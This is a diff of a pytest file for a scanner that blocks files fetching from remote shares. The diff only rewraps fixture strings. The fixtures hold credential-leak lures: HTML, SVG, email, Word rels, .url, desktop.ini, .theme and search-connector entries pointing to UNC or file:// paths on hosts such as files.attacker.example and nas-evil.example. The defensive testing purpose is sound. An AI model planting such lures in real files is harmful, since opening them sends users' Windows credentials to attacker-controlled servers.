@@ -27,10 +27,13 @@ def _shell(command: str):
     ("status.html", '<link rel="stylesheet" href="file:////files.attacker.example/css/site.css">'),
     ("badge.svg", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://198.51.100.3/b.png"/></svg>'),
     ("mail.eml", 'Content-Type: text/html\n\n<img src=3D"file://192.0.2.200/t.jpg">'),
-    ("word/_rels/document.xml.rels", '<Relationship Id="r9" Target="\\\\10.20.30.40\\pub\\x.png" TargetMode="External"/>'),
-    ("Quarterly.url", "[InternetShortcut]\nURL=https://intranet.example.com/q\nIconFile=\\\\198.51.100.66\\icons\\q.ico\nIconIndex=0\n"),
+    ("word/_rels/document.xml.rels", '<Relationship Id="r9" Target="\\\\10.20.30.40\\pub\\x.png" '
+                                     'TargetMode="External"/>'),
+    ("Quarterly.url", "[InternetShortcut]\nURL=https://intranet.example.com/q\n"
+                      "IconFile=\\\\198.51.100.66\\icons\\q.ico\nIconIndex=0\n"),
     ("Start.url", "[InternetShortcut]\nURL=file://203.0.113.9/pub/\n"),
-    ("C:/Users/kim/Downloads/folder/desktop.ini", "[.ShellClassInfo]\nIconFile=\\\\nas-evil.example\\i\\f.ico\nIconIndex=0\n"),
+    ("C:/Users/kim/Downloads/folder/desktop.ini", "[.ShellClassInfo]\n"
+                                                  "IconFile=\\\\nas-evil.example\\i\\f.ico\nIconIndex=0\n"),
     ("Ocean.theme", "[Control Panel\\Desktop]\nWallpaper=\\\\192.0.2.150@SSL\\DavWWWRoot\\sea.jpg\n"),
     ("Team.library-ms", "<libraryDescription><url>//198.51.100.90/team</url></libraryDescription>"),
     ("Files.searchConnector-ms", "<searchConnectorDescription><simpleLocation><url>smb://192.0.2.5/f</url></simpleLocation>"
@@ -45,7 +48,8 @@ def test_files_that_fetch_from_a_share_elsewhere_block(path, content):
 
 
 @pytest.mark.parametrize(("path", "content"), [
-    ("site/index.html", '<img src="img/logo.png"><img src="https://cdn.example.net/a.png"><script src="//cdn.example.net/x.js">'),
+    ("site/index.html", '<img src="img/logo.png"><img src="https://cdn.example.net/a.png">'
+                        '<script src="//cdn.example.net/x.js">'),
     ("docs/shares.html", "<p>Map the drive with <code>net use S: \\\\fileserver\\team</code>.</p>"),
     ("docs/links.html", '<a href="https://example.org/file://x">spec</a><img src="file:///C:/Users/me/Pictures/a.png">'),
     ("local.html", '<img src="file://localhost/home/me/chart.png"><img src="file://C:/tmp/chart.png">'),
